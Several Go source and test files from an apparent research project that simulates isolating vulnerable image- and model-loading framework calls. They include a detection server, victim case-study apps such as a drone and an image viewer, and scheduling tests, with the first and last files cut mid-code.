	master := make([]int, omr.Questions)
	for q := range master {
		master[q] = q % omr.Options
	}
	if err := omr.InitTemplate(hostSpace, e.Rt, master); err != nil {
		return err
	}
	// Replace the provisioned generic images with real OMR sheets.
	for i := range e.Inputs {
		enc, _ := e.Gen.EncodedOMRSheet(omr.Questions, omr.Options, omr.Cell)
		e.K.FS.WriteFile(e.Inputs[i], enc)
	}
	var last core.Handle
	lastScore := 0
	for _, path := range e.Inputs {
		score, err := omr.GradeSheet(e, hostSpace, path)
		if err != nil {
			return err
		}
		imgs, _ := e.MustCall("cv.imread", framework.Str(path))
		last, lastScore = imgs[0], score
	}
	if err := omr.Annotate(e, last, lastScore); err != nil {
		return err
	}
	omr.WriteCSV(e.K, e.Dir+"/results.csv")
	return nil
}

// omrCell scales the bubble size with the environment, clamped so the
// byte-encoded template coordinates stay within range.
func omrCell(e *Env) int {
	cell := 6 * e.Scale
	if cell > 30 {
		cell = 30 // 8 questions x 30 px stays under the 255 coordinate cap
	}
	if cell < 6 {
		cell = 6
	}
	return cell
}

// hostSpaceOf picks the space where the app's own variables live.
func hostSpaceOf(e *Env) *mem.AddressSpace {
	if e.Rt != nil {
		return e.Rt.Host.Space()
	}
	if d, ok := e.Ex.(*core.Direct); ok {
		return d.Proc.Space()
	}
	if h, ok := e.Ex.(interface{ HostSpace() *mem.AddressSpace }); ok {
		return h.HostSpace()
	}
	// Last resort: a dedicated space outside any process (still enforced).
	return mem.NewSpace()
}

// OMRGradeAll is the exported motivating-example driver used by examples
// and experiments: grades sheets and returns per-sheet scores plus the
// grader state (for attack targeting).
func OMRGradeAll(e *Env, sheets int) (*OMR, []int, error) {
	hostSpace := hostSpaceOf(e)
	omr := NewOMR(8, 4, omrCell(e))
	master := make([]int, omr.Questions)
	for q := range master {
		master[q] = q % omr.Options
	}
	if err := omr.InitTemplate(hostSpace, e.Rt, master); err != nil {
		return nil, nil, err
	}
	gen := workload.New(4242)
	scores := make([]int, 0, sheets)
	for i := 0; i < sheets; i++ {
		path := fmt.Sprintf("%s/sheet-%02d.img", e.Dir, i)
		enc, answers := gen.EncodedOMRSheet(omr.Questions, omr.Options, omr.Cell)
		// Make the submission match the master on a known prefix so the
		// expected score is computable.
		_ = answers
		e.K.FS.WriteFile(path, enc)
		score, err := omr.GradeSheet(e, hostSpace, path)
		if err != nil {
			return omr, scores, err
		}
		scores = append(scores, score)
	}
	omr.WriteCSV(e.K, e.Dir+"/results.csv")
	return omr, scores, nil
}
