package apps

import (
	"fmt"
	"sync"
	"time"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/object"
	"freepart.dev/freepart/internal/vclock"
	"freepart.dev/freepart/internal/workload"
)

// detectionModelKey names the shared classifier in the executor's store.
const detectionModelKey = "simcv/cascade-classifier"

// DetectionRequest is one user's image submission to the detection service
// (the long-running server of §4.4.2 / §5.3, generalized to many
// concurrent users).
type DetectionRequest struct {
	// User identifies the submitting client.
	User int
	// Body is the encoded image.
	Body []byte
	// Arrival is the request's arrival time on the virtual timeline. A
	// request admitted after its arrival (the shard was busy) accrues
	// queueing delay; an idle shard's clock advances to the arrival. Zero
	// means "arrived at admission" — no modeled queueing delay.
	Arrival vclock.Duration
}

// reqInterArrival spaces the generated open-loop request stream: clients
// submit on their own schedule regardless of server backlog, which is what
// makes queueing delay visible in the latency percentiles.
const reqInterArrival = 60 * time.Microsecond

// GenDetectionRequests produces a deterministic request stream: n encoded
// images of varying size from a seeded generator, so every serving run over
// the same seed sees byte-identical inputs.
func GenDetectionRequests(seed int64, n int) []DetectionRequest {
	gen := workload.New(seed)
	out := make([]DetectionRequest, n)
	for i := range out {
		// Cycle image sizes so the latency distribution has real spread
		// (percentiles over identical requests would collapse to one
		// value). The period 5 is coprime to every shard count in the
		// scaling sweep (1/2/4/8), so round-robin placement never pins one
		// size class to one shard.
		size := 12 + (i%5)*3
		out[i] = DetectionRequest{
			User:    i + 1,
			Body:    gen.EncodedImage(size, size, 1),
			Arrival: vclock.Duration(i+1) * reqInterArrival,
		}
	}
	return out
}

// DetectionResult is the service's answer to one request.
type DetectionResult struct {
	// User echoes the requesting client.
	User int
	// Objects is the detection count.
	Objects int
	// Err is set when the request failed (e.g. a malicious image crashed
	// the loading agent); other requests are unaffected.
	Err error
}

// DetectionServer is the session-sharded detection service: one classifier
// model interned once in the executor's read-only store and loaded on every
// shard, with requests fanned out across shards through sessions.
type DetectionServer struct {
	// Ex is the serving pool.
	Ex *core.Executor

	mu     sync.Mutex
	models map[int]core.Handle // per-shard loaded model, keyed by slot id
	im     *object.Immutable
}

// loadModel writes the interned classifier into sh's filesystem and loads
// it, recording the resulting per-shard handle.
func (srv *DetectionServer) loadModel(sh *core.Shard) error {
	sh.K.FS.WriteFile("/srv/model.xml", srv.im.Bytes())
	h, _, err := sh.Ex.Call("cv.CascadeClassifier", framework.Str("/srv/model.xml"))
	if err != nil {
		return fmt.Errorf("apps: shard %d model load: %w", sh.ID, err)
	}
	if len(h) == 0 {
		return fmt.Errorf("apps: shard %d model load returned no handle", sh.ID)
	}
	srv.mu.Lock()
	srv.models[sh.ID] = h[0]
	srv.mu.Unlock()
	return nil
}

// Reload provisions one shard with the interned classifier — the same
// hook body ProvisionDetection installs as OnReplace. Exported so callers
// composing their own replacement chain (the defense drill re-arms its
// sensors on every replacement shard, then still needs the model loaded)
// can keep the load step in the chain.
func (srv *DetectionServer) Reload(sh *core.Shard) error { return srv.loadModel(sh) }

// model returns the classifier handle currently loaded on shard id.
func (srv *DetectionServer) model(id int) core.Handle {
	srv.mu.Lock()
	defer srv.mu.Unlock()
	return srv.models[id]
}

// ProvisionDetection builds the service on an executor: the classifier
// bytes are built exactly once (copy-on-write shared across shards via the
// store), then each shard loads the model into its own runtime. The same
// load runs again on every replacement shard and on every shard the
// control plane grows into the pool (via the executor's OnReplace hook),
// so a failed-over or newly scaled shard serves with its model in place
// before its first request.
func ProvisionDetection(ex *core.Executor) (*DetectionServer, error) {
	im, err := ex.Store().Intern(detectionModelKey, object.KindBlob, nil, func() ([]byte, error) {
		return simcv.EncodeClassifier(150, 4), nil
	})
	if err != nil {
		return nil, err
	}
	srv := &DetectionServer{Ex: ex, models: make(map[int]core.Handle), im: im}
	for i := 0; i < ex.Shards(); i++ {
		if err := srv.loadModel(ex.Shard(i)); err != nil {
			return nil, err
		}
	}
	ex.SetOnReplace(srv.loadModel)
	return srv, nil
}

// Serve answers every request. Sessions are opened in request order (so
// shard placement is round-robin and deterministic), then each shard
// drains its requests in arrival order on its own goroutine. Per-shard
// FIFO matters for determinism, not just fairness: a request's virtual
// latency includes the temporal-permission sealing of the previous
// request's objects on that shard, so reordering within a shard would
// shuffle nanoseconds between adjacent samples. Shards still serve
// concurrently with each other. Results come back in request order.
func (srv *DetectionServer) Serve(reqs []DetectionRequest) []DetectionResult {
	byShard := make([][]int, srv.Ex.Shards())
	sessions := make([]*core.Session, len(reqs))
	for i := range reqs {
		sessions[i] = srv.Ex.Session()
		id := sessions[i].Shard().ID
		byShard[id] = append(byShard[id], i)
	}
	results := make([]DetectionResult, len(reqs))
	var wg sync.WaitGroup
	for _, queue := range byShard {
		wg.Add(1)
		go func(queue []int) {
			defer wg.Done()
			for _, i := range queue {
				results[i] = srv.serveOne(sessions[i], i, reqs[i])
			}
		}(queue)
	}
	wg.Wait()
	return results
}

// ServeSeq answers every request strictly sequentially, in request order,
// on the calling goroutine. Sessions are opened exactly as Serve opens
// them (request order, round-robin placement), so the only difference is
// scheduling: no two requests are ever in flight at once. That total order
// is what the gray-failure campaign and soaks need — with hedging or live
// pool-median suspicion scoring enabled, shards read each other's state,
// and only a sequential schedule makes those cross-shard reads (and the
// chaos draws behind them) a pure function of the request list. The
// executor spawns no goroutines of its own, so under ServeSeq the entire
// run is deterministic end to end, cross-shard couplings included.
func (srv *DetectionServer) ServeSeq(reqs []DetectionRequest) []DetectionResult {
	sessions := make([]*core.Session, len(reqs))
	for i := range reqs {
		sessions[i] = srv.Ex.Session()
	}
	results := make([]DetectionResult, len(reqs))
	for i := range reqs {
		results[i] = srv.serveOne(sessions[i], i, reqs[i])
	}
	return results
}

// serveOne runs one detection invocation on the request's session shard:
// store the upload in the shard's filesystem, decode it, detect. The
// request's arrival stamp feeds the admission path, so its recorded
// latency is queueing delay plus service time.
func (srv *DetectionServer) serveOne(s *core.Session, i int, rq DetectionRequest) DetectionResult {
	return srv.serveOnePre(s, i, rq, nil)
}

// serveOnePre is serveOne with an optional hook run on the serving shard
// before the pipeline (inside the admitted invocation, so anything it
// charges lands on the request's latency). The partition plane uses it for
// warm/cold bookkeeping; a nil hook is exactly serveOne.
func (srv *DetectionServer) serveOnePre(s *core.Session, i int, rq DetectionRequest, pre func(sh *core.Shard)) DetectionResult {
	res := DetectionResult{User: rq.User}
	arrival := rq.Arrival
	if arrival <= 0 {
		arrival = -1 // no stamp: arrives at admission
	}
	res.Err = s.DoAt(arrival, func(sh *core.Shard) error {
		if pre != nil {
			pre(sh)
		}
		path := fmt.Sprintf("/srv/req-%d.img", i)
		sh.K.FS.WriteFile(path, rq.Body)
		img, _, err := sh.Ex.Call("cv.imread", framework.Str(path))
		if err != nil {
			// Availability first (§4.4.2): revive the shard's crashed
			// agent so the next request on this shard is served.
			if sh.Rt != nil {
				_ = sh.Rt.RestartDead()
			}
			return err
		}
		_, plain, err := sh.Ex.Call("cv.CascadeClassifier.detectMultiScale",
			srv.model(sh.ID).Value(), img[0].Value())
		if err != nil {
			if sh.Rt != nil {
				_ = sh.Rt.RestartDead()
			}
			return err
		}
		if len(plain) > 0 {
			res.Objects = int(plain[0].Int)
		}
		return nil
	})
	return res
}

// Served counts successful results.
func Served(results []DetectionResult) int {
	n := 0
	for _, r := range results {
		if r.Err == nil {
			n++
		}
	}
	return n
}
