package apps

import (
	"fmt"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/mem"
)

// Drone is the autonomous object-tracking drone of §5.4.1: it loads camera
// images through the (vulnerable) loading APIs, recognizes the tracked
// object, and steers toward it. Its speed configuration is critical host
// data — corrupting it to a negative value reverses the drone.
type Drone struct {
	// Speed is the self.speed variable: stored in host memory as a
	// fixed-point int8 (0.3 → 30).
	SpeedRegion mem.Region
	space       *mem.AddressSpace
	// Commands records the steering commands sent to the drone hardware.
	Commands []string
	// FramesHandled counts successfully processed camera frames.
	FramesHandled int
}

// NewDrone allocates the drone's configuration in the host space.
func NewDrone(e *Env) (*Drone, error) {
	space := hostSpaceOf(e)
	r, err := space.Alloc(16)
	if err != nil {
		return nil, err
	}
	if err := space.Store(r.Base, []byte{30}); err != nil { // speed 0.3
		return nil, err
	}
	d := &Drone{SpeedRegion: r, space: space}
	if e.Rt != nil {
		e.Rt.RegisterCritical(r)
	}
	return d, nil
}

// Speed reads the current speed configuration (fixed-point /100).
func (d *Drone) Speed() (float64, error) {
	b, err := d.space.LoadByte(d.SpeedRegion.Base)
	if err != nil {
		return 0, err
	}
	return float64(int8(b)) / 100, nil
}

// Fly processes frames from the provisioned input files (the camera feed),
// tracking the brightest region and steering toward it. A dead loading
// agent stops frame handling but must not stop the control loop — the
// paper's availability argument.
func (d *Drone) Fly(e *Env, frames int) error {
	for i := 0; i < frames; i++ {
		path := e.Inputs[i%len(e.Inputs)]
		imgs, _, err := e.Call("cv.imread", framework.Str(path))
		if err != nil {
			// The data-loading process is down: keep flying blind.
			d.Commands = append(d.Commands, "hover")
			continue
		}
		gray := grayOf(e, imgs[0])
		_, mm, err := e.Call("cv.minMaxLoc", gray.Value())
		if err != nil {
			d.Commands = append(d.Commands, "hover")
			continue
		}
		speed, err := d.Speed()
		if err != nil {
			return err
		}
		d.FramesHandled++
		dir := "toward"
		if speed < 0 {
			dir = "away"
		}
		d.Commands = append(d.Commands, fmt.Sprintf("move %s (%d,%d) at %.2f", dir, mm[2].Int, mm[3].Int, speed))
	}
	return nil
}

// Viewer is the MComix3-style image viewer of §5.4.2. The recently opened
// file names are sensitive: one copy lives in host memory
// (self._window.uimanager.recent) and one inside the GUI subsystem
// (Gtk.RecentManager).
type Viewer struct {
	RecentRegion mem.Region
	space        *mem.AddressSpace
	recentLen    int
}

// NewViewer allocates the host-side recent-files list.
func NewViewer(e *Env) (*Viewer, error) {
	space := hostSpaceOf(e)
	r, err := space.Alloc(256)
	if err != nil {
		return nil, err
	}
	// The recent list is continually appended by the app, so temporal
	// read-only protection does not apply; its defense is process
	// isolation (the exploit runs in the loading agent, §5.4.2).
	return &Viewer{RecentRegion: r, space: space}, nil
}

// Open loads and displays an image, recording its name in both recent
// lists (host memory and the GUI subsystem via the window title).
func (v *Viewer) Open(e *Env, path string) error {
	imgs, _, err := e.Call("cv.imread", framework.Str(path))
	if err != nil {
		return err
	}
	if _, _, err := e.Call("cv.imshow", framework.Str(path), imgs[0].Value()); err != nil {
		return err
	}
	entry := append([]byte(path), '\n')
	if v.recentLen+len(entry) <= v.RecentRegion.Size {
		if err := v.space.Store(v.RecentRegion.Base+mem.Addr(v.recentLen), entry); err != nil {
			return err
		}
		v.recentLen += len(entry)
	}
	return nil
}

// Recent reads the host-side recent list.
func (v *Viewer) Recent() (string, error) {
	if v.recentLen == 0 {
		return "", nil
	}
	b, err := v.space.Load(v.RecentRegion.Base, v.recentLen)
	return string(b), err
}

// MedicalApp is the StegoNet CT-image victim (§A.7): patient metadata in
// host memory, CT images through the loading path, inference through a
// (possibly trojaned) model in the processing path.
type MedicalApp struct {
	PatientRegion mem.Region
	space         *mem.AddressSpace
	Diagnoses     []int
}

// NewMedicalApp allocates the patient record in host memory.
func NewMedicalApp(e *Env, record string) (*MedicalApp, error) {
	space := hostSpaceOf(e)
	r, err := space.Alloc(128)
	if err != nil {
		return nil, err
	}
	if err := space.Store(r.Base, []byte(record)); err != nil {
		return nil, err
	}
	m := &MedicalApp{PatientRegion: r, space: space}
	if e.Rt != nil {
		e.Rt.RegisterCritical(r)
	}
	return m, nil
}

// Analyze loads a CT image and runs the model over it.
func (m *MedicalApp) Analyze(e *Env, imgPath, modelPath string) error {
	if _, _, err := e.Call("cv.imread", framework.Str(imgPath)); err != nil {
		return err
	}
	model, _, err := e.Call("torch.load", framework.Str(modelPath))
	if err != nil {
		return err
	}
	in, _ := e.MustCall("torch.tensor", framework.Int64(int64(512*e.Scale*e.Scale)), framework.Float64(0.7))
	out, _, err := e.Call("torch.Module.forward", model[0].Value(), in[0].Value())
	if err != nil {
		return err
	}
	_, cls, err := e.Call("torch.argmax", out[0].Value())
	if err != nil {
		return err
	}
	m.Diagnoses = append(m.Diagnoses, int(cls[0].Int))
	return nil
}

// InvoiceApp is the StegoNet tax-invoice OCR victim (§A.7): taxpayer
// details in host memory, invoice images through loading, OCR through the
// model.
type InvoiceApp struct {
	TaxpayerRegion mem.Region
	space          *mem.AddressSpace
	Processed      int
}

// NewInvoiceApp allocates the taxpayer record.
func NewInvoiceApp(e *Env, record string) (*InvoiceApp, error) {
	space := hostSpaceOf(e)
	r, err := space.Alloc(128)
	if err != nil {
		return nil, err
	}
	if err := space.Store(r.Base, []byte(record)); err != nil {
		return nil, err
	}
	a := &InvoiceApp{TaxpayerRegion: r, space: space}
	if e.Rt != nil {
		e.Rt.RegisterCritical(r)
	}
	return a, nil
}

// Process OCRs one invoice image through the model.
func (a *InvoiceApp) Process(e *Env, imgPath, modelPath string) error {
	imgs, _, err := e.Call("cv.imread", framework.Str(imgPath))
	if err != nil {
		return err
	}
	thr, _ := e.MustCall("cv.adaptiveThreshold", imgs[0].Value())
	if _, _, err := e.Call("cv.findContours", thr[0].Value()); err != nil {
		return err
	}
	model, _, err := e.Call("torch.load", framework.Str(modelPath))
	if err != nil {
		return err
	}
	in, _ := e.MustCall("torch.tensor", framework.Int64(int64(512*e.Scale*e.Scale)), framework.Float64(0.4))
	if _, _, err := e.Call("torch.Module.forward", model[0].Value(), in[0].Value()); err != nil {
		return err
	}
	a.Processed++
	return nil
}

// CaseApp wraps a case-study program as an App so the standard harness
// (env provisioning, overhead measurement) applies.
func CaseApp(id int, name string, pipeline func(e *Env) error) App {
	return App{ID: id, Name: name, Framework: "simcv", Lang: "Python",
		Inputs: 5, ImgRows: 16, ImgCols: 16, Desc: "case study", Pipeline: pipeline}
}

// DroneApp returns the drone case study as a runnable App (id 101).
func DroneApp() App {
	return CaseApp(101, "autonomous-drone", func(e *Env) error {
		d, err := NewDrone(e)
		if err != nil {
			return err
		}
		return d.Fly(e, 2*len(e.Inputs))
	})
}

// ViewerApp returns the MComix3 case study as a runnable App (id 102).
func ViewerApp() App {
	return CaseApp(102, "mcomix3-viewer", func(e *Env) error {
		v, err := NewViewer(e)
		if err != nil {
			return err
		}
		for _, p := range e.Inputs {
			if err := v.Open(e, p); err != nil {
				return err
			}
		}
		return nil
	})
}
