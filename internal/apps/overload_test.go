package apps_test

import (
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/report"
	"freepart.dev/freepart/internal/sched"
	"freepart.dev/freepart/internal/vclock"
)

// newTrackingPool provisions a protected n-shard pool with reset clocks,
// ready to serve tracking streams.
func newTrackingPool(t *testing.T, n int) (*core.Executor, *apps.TrackingServer) {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	ex, err := core.NewExecutor(n, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	srv := apps.ProvisionTracking(ex)
	for i := 0; i < ex.Shards(); i++ {
		ex.Shard(i).K.Clock.Reset()
	}
	return ex, srv
}

// TestZeroCostGuardServing pins the PR's compatibility obligation: with the
// zero admission policy and no orderer the serving path must behave
// bit-identically to the legacy ramp — and a WFQ orderer over single-tenant
// streams (which by construction keeps arrival order) must not change a
// result, a latency percentile, or the event log either, even though it
// routes every wave through the entries path instead of the fast path.
func TestZeroCostGuardServing(t *testing.T) {
	streams := apps.GenTrackStreams(21, 6, 8)
	type run struct {
		results []apps.TrackResult
		p50     vclock.Duration
		p99     vclock.Duration
		crit    vclock.Duration
		events  int
	}
	serve := func(explicitZero bool, opt apps.RampOptions) run {
		ex, srv := newTrackingPool(t, 2)
		if explicitZero {
			ex.SetAdmission(core.AdmissionPolicy{})
		}
		res := srv.ServeRampOpts(streams, opt)
		return run{res, ex.Latencies().P50(), ex.Latencies().P99(), ex.CriticalPath(), len(ex.FailoverEvents())}
	}

	legacy := serve(false, apps.RampOptions{})
	zeroPol := serve(true, apps.RampOptions{})
	ordered := serve(false, apps.RampOptions{Orderer: &sched.WFQ{}})

	for i, r := range legacy.results {
		if r.Err != nil {
			t.Fatalf("legacy stream %d: %v", i, r.Err)
		}
	}
	if !reflect.DeepEqual(legacy, zeroPol) {
		t.Fatalf("explicit zero policy diverged from legacy path:\n%+v\nvs\n%+v", zeroPol, legacy)
	}
	if !reflect.DeepEqual(legacy, ordered) {
		t.Fatalf("WFQ orderer over single-tenant streams diverged from legacy path:\n%+v\nvs\n%+v", ordered, legacy)
	}
	if legacy.events != 0 {
		t.Fatalf("legacy run logged %d failover events, want 0", legacy.events)
	}
}

// TestShedPurityCheckpointLog pins the exactly-once side of shedding: a
// shed request leaves zero checkpoint entries. The tracking workload
// appends deterministically per served call, so the checkpoint log of an
// overloaded run must land exactly on the per-init/per-step line fitted
// from clean closed-loop runs — one stray append from a shed step breaks
// the equation. Run under -race via make check.
func TestShedPurityCheckpointLog(t *testing.T) {
	appendsFor := func(steps int) uint64 {
		ex, srv := newTrackingPool(t, 1)
		probe := apps.GenTrackStreams(7, 1, steps)
		for i := range probe[0].Arrivals {
			probe[0].Arrivals[i] = 0
		}
		for i, r := range srv.ServeStreams(probe) {
			if r.Err != nil {
				t.Fatalf("probe stream %d: %v", i, r.Err)
			}
		}
		return ex.CheckpointLog().Stats().Appends
	}
	a4, a12 := appendsFor(4), appendsFor(12)
	if a12 <= a4 {
		t.Fatalf("checkpoint appends not increasing in steps: %d vs %d", a4, a12)
	}
	perStep := (a12 - a4) / 8
	perInit := a4 - 4*perStep

	// A 6x-overloaded two-tenant run: most steps shed at the queue bound or
	// the deadline, the rest served.
	initCost, stepCost, err := report.CalibrateTracking()
	if err != nil {
		t.Fatal(err)
	}
	const shards, heavy, light, steps = 2, 6, 2, 24
	perShard := vclock.Duration((heavy + light) / shards)
	streams := apps.GenTenantStreams(17, heavy, light, steps,
		stepCost*perShard/6, initCost*(perShard+1))

	ex, srv := newTrackingPool(t, shards)
	ex.SetAdmission(core.AdmissionPolicy{QueueLimit: 2, Deadline: 2 * stepCost})
	results := srv.ServeRampOpts(streams, apps.RampOptions{
		TolerateShed: true,
		Orderer:      &sched.WFQ{Quantum: 5 * stepCost / 4},
	})
	served, dropped := 0, 0
	for i, r := range results {
		if r.Err != nil {
			t.Fatalf("stream %d: %v", i, r.Err)
		}
		served += r.Steps
		dropped += r.Dropped
	}
	if dropped == 0 {
		t.Fatal("overload run shed nothing; the purity check exercised nothing")
	}
	if served == 0 {
		t.Fatal("overload run served nothing; the purity check exercised nothing")
	}
	appends := ex.CheckpointLog().Stats().Appends
	want := perInit*uint64(len(streams)) + perStep*uint64(served)
	if appends != want {
		t.Fatalf("checkpoint log has %d appends, want %d (%d inits, %d served steps): shed work touched the log",
			appends, want, len(streams), served)
	}
}
