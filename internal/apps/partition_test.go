package apps_test

import (
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/partition"
	"freepart.dev/freepart/internal/sched"
	"freepart.dev/freepart/internal/vclock"
)

func TestGenPartitionVisitsDeterministic(t *testing.T) {
	a := apps.GenPartitionVisits(11, 1000, 500, 1.2)
	b := apps.GenPartitionVisits(11, 1000, 500, 1.2)
	if !reflect.DeepEqual(a, b) {
		t.Fatal("same seed must generate a byte-equal visit schedule")
	}
	c := apps.GenPartitionVisits(12, 1000, 500, 1.2)
	if reflect.DeepEqual(a, c) {
		t.Fatal("distinct seeds generated identical schedules")
	}
	for i := 1; i < len(a); i++ {
		if a[i].Arrival <= a[i-1].Arrival {
			t.Fatal("arrivals must be strictly increasing")
		}
	}
}

// partitionPool builds a 4-shard direct pool with the partition plane armed
// under the given placer.
func partitionPool(t *testing.T, placer sched.Placer, mem *partition.PlacementMemory, meta *partition.Meta) (*core.Executor, *apps.PartitionServer) {
	t.Helper()
	ex, err := core.NewExecutor(4, core.DirectShards(all.Registry()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	if placer != nil {
		sched.New(ex, sched.Policy{MinShards: 4, MaxShards: 4}, placer)
	}
	srv := apps.NewPartitionServer(ex, apps.PartitionConfig{
		Meta: meta, Memory: mem, Cost: vclock.Default(), Class: "visit",
	})
	return ex, srv
}

func TestPartitionServerWarmsUnderAffinity(t *testing.T) {
	visits := apps.GenPartitionVisits(3, 64, 600, 1.3)

	mem := partition.NewMemory()
	pa := sched.PartitionAware{Memory: mem, Topo: sched.Topology{ShardsPerSocket: 2}}
	ex, srv := partitionPool(t, pa, mem, nil)
	results := srv.ServeVisits(visits, 0, nil)
	for i, r := range results {
		if r.Err != nil {
			t.Fatalf("visit %d: %v", i, r.Err)
		}
	}
	m := ex.Metrics().Snapshot()
	if m.WarmHits == 0 || m.ColdMisses == 0 {
		t.Fatalf("warm/cold = %d/%d; a skewed population must produce both", m.WarmHits, m.ColdMisses)
	}
	// Under affinity, returning keys land warm: hits dominate misses (a
	// miss per first sighting, hits thereafter).
	if m.WarmHits <= m.ColdMisses {
		t.Fatalf("affinity produced %d warm vs %d cold; returning keys are not landing warm", m.WarmHits, m.ColdMisses)
	}

	// Round-robin scatters the same schedule: strictly fewer warm hits.
	rrMem := partition.NewMemory()
	rrEx, rrSrv := partitionPool(t, nil, rrMem, nil)
	rrSrv.ServeVisits(visits, 0, nil)
	rr := rrEx.Metrics().Snapshot()
	if rr.WarmHits >= m.WarmHits {
		t.Fatalf("round-robin warm hits (%d) should trail partition-aware (%d)", rr.WarmHits, m.WarmHits)
	}
	// And identical results either way: placement never changes answers.
	if !reflect.DeepEqual(rrSrv.ServeVisits(visits, 0, nil)[0].Value, results[0].Value) {
		t.Fatal("served values depend on placement")
	}
}

func TestPartitionServerReplaysByteEqual(t *testing.T) {
	run := func() ([]apps.PartitionResult, []byte, []byte) {
		mem := partition.NewMemory()
		meta := partition.New(partition.Range, 4, 64)
		pa := sched.PartitionAware{Meta: meta, Memory: mem, Topo: sched.Topology{ShardsPerSocket: 2}}
		_, srv := partitionPool(t, pa, mem, meta)
		res := srv.ServeVisits(apps.GenPartitionVisits(7, 64, 400, 1.4), 0, nil)
		return res, mem.Encode(), meta.Encode()
	}
	r1, m1, t1 := run()
	r2, m2, t2 := run()
	if !reflect.DeepEqual(r1, r2) {
		t.Fatal("results diverged across replays")
	}
	if string(m1) != string(m2) {
		t.Fatalf("placement memories diverged across replays:\n%s\n%s", m1, m2)
	}
	if string(t1) != string(t2) {
		t.Fatalf("partition metadata diverged across replays:\n%s\n%s", t1, t2)
	}
}

func TestPartitionServerResidentMigration(t *testing.T) {
	// A resident session pinned by the drill's migration keeps serving with
	// byte-equal values after moving shards.
	mem := partition.NewMemory()
	meta := partition.New(partition.Range, 2, 64)
	meta.Prefer(0, 0)
	meta.Prefer(1, 0) // everything piles onto shard 0: the melt
	pa := sched.PartitionAware{Meta: meta, Memory: mem, Topo: sched.Topology{ShardsPerSocket: 2}}
	ex, srv := partitionPool(t, pa, mem, meta)
	srv.Resident([]uint64{40, 50})
	visits := apps.GenPartitionVisits(9, 64, 300, 1.3)

	drilled := false
	results := srv.ServeVisits(visits, 150, func() {
		_, moved, err := sched.RebalancePartition(ex, meta, mem,
			sched.Topology{ShardsPerSocket: 2}, vclock.Default(), 1, 3, 8<<10)
		if err != nil {
			t.Fatalf("rebalance: %v", err)
		}
		if moved == 0 {
			t.Fatal("drill moved no resident sessions")
		}
		drilled = true
	})
	srv.FinishResident()
	if !drilled {
		t.Fatal("drill never ran")
	}
	if got := ex.Metrics().Snapshot().PartitionSplits; got != 1 {
		t.Fatalf("PartitionSplits = %d, want 1", got)
	}

	// No-drill baseline: served values byte-equal (placement-independent).
	mem2 := partition.NewMemory()
	meta2 := partition.New(partition.Range, 2, 64)
	meta2.Prefer(0, 0)
	meta2.Prefer(1, 0)
	pa2 := sched.PartitionAware{Meta: meta2, Memory: mem2, Topo: sched.Topology{ShardsPerSocket: 2}}
	_, srv2 := partitionPool(t, pa2, mem2, meta2)
	srv2.Resident([]uint64{40, 50})
	baseline := srv2.ServeVisits(visits, 0, nil)
	srv2.FinishResident()
	for i := range results {
		if results[i].Value != baseline[i].Value || results[i].Key != baseline[i].Key {
			t.Fatalf("visit %d diverged from no-drill baseline", i)
		}
	}
}
