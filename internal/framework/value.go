package framework

import (
	"bytes"
	"encoding/gob"
	"fmt"

	"freepart.dev/freepart/internal/object"
)

// ValueKind discriminates argument/result values.
type ValueKind uint8

// Value kinds.
const (
	ValNil ValueKind = iota
	ValInt
	ValFloat
	ValStr
	ValBool
	ValObj // a process-local object id (rewritten to a Ref across the boundary)
	ValRef // a cross-process object reference (lazy data copy)
)

// Value is one argument or result of a framework API call. Exactly one
// field corresponding to Kind is meaningful.
type Value struct {
	Kind  ValueKind
	Int   int64
	Float float64
	Str   string
	Bool  bool
	// Obj is a process-local object table id (ValObj).
	Obj uint64
	// Ref is a cross-process reference (ValRef).
	Ref object.Ref
}

// Convenience constructors.

// Nil returns the nil value.
func Nil() Value { return Value{Kind: ValNil} }

// Int64 wraps an integer.
func Int64(v int64) Value { return Value{Kind: ValInt, Int: v} }

// Float64 wraps a float.
func Float64(v float64) Value { return Value{Kind: ValFloat, Float: v} }

// Str wraps a string.
func Str(v string) Value { return Value{Kind: ValStr, Str: v} }

// Bool wraps a bool.
func Bool(v bool) Value { return Value{Kind: ValBool, Bool: v} }

// Obj wraps a process-local object id.
func Obj(id uint64) Value { return Value{Kind: ValObj, Obj: id} }

// RefVal wraps a cross-process object reference.
func RefVal(r object.Ref) Value { return Value{Kind: ValRef, Ref: r} }

// IsObj reports whether the value carries an object (local or remote).
func (v Value) IsObj() bool { return v.Kind == ValObj || v.Kind == ValRef }

// String renders the value for logs.
func (v Value) String() string {
	switch v.Kind {
	case ValNil:
		return "nil"
	case ValInt:
		return fmt.Sprintf("%d", v.Int)
	case ValFloat:
		return fmt.Sprintf("%g", v.Float)
	case ValStr:
		return fmt.Sprintf("%q", v.Str)
	case ValBool:
		return fmt.Sprintf("%t", v.Bool)
	case ValObj:
		return fmt.Sprintf("obj#%d", v.Obj)
	case ValRef:
		return fmt.Sprintf("ref{pid=%d id=%d %dB}", v.Ref.PID, v.Ref.ID, v.Ref.Size)
	default:
		return fmt.Sprintf("value(kind=%d)", v.Kind)
	}
}

// Call is a marshalled API invocation: the API name plus its arguments.
// Payloads carries eager object payloads positionally aligned with Args
// (nil for pass-by-reference under lazy data copy).
type Call struct {
	API      string
	Args     []Value
	Payloads [][]byte
}

// Reply is a marshalled API result.
type Reply struct {
	Results  []Value
	Payloads [][]byte
	// UpdatedArgs carries post-call argument state for out-parameters
	// (agent_update_arg in Fig. 10-(c)), aligned with the request's Args.
	UpdatedArgs     []Value
	UpdatedPayloads [][]byte
}

// EncodeCall serializes a Call for the ring buffer.
func EncodeCall(c Call) ([]byte, error) {
	var buf bytes.Buffer
	if err := gob.NewEncoder(&buf).Encode(c); err != nil {
		return nil, fmt.Errorf("framework: encode call: %w", err)
	}
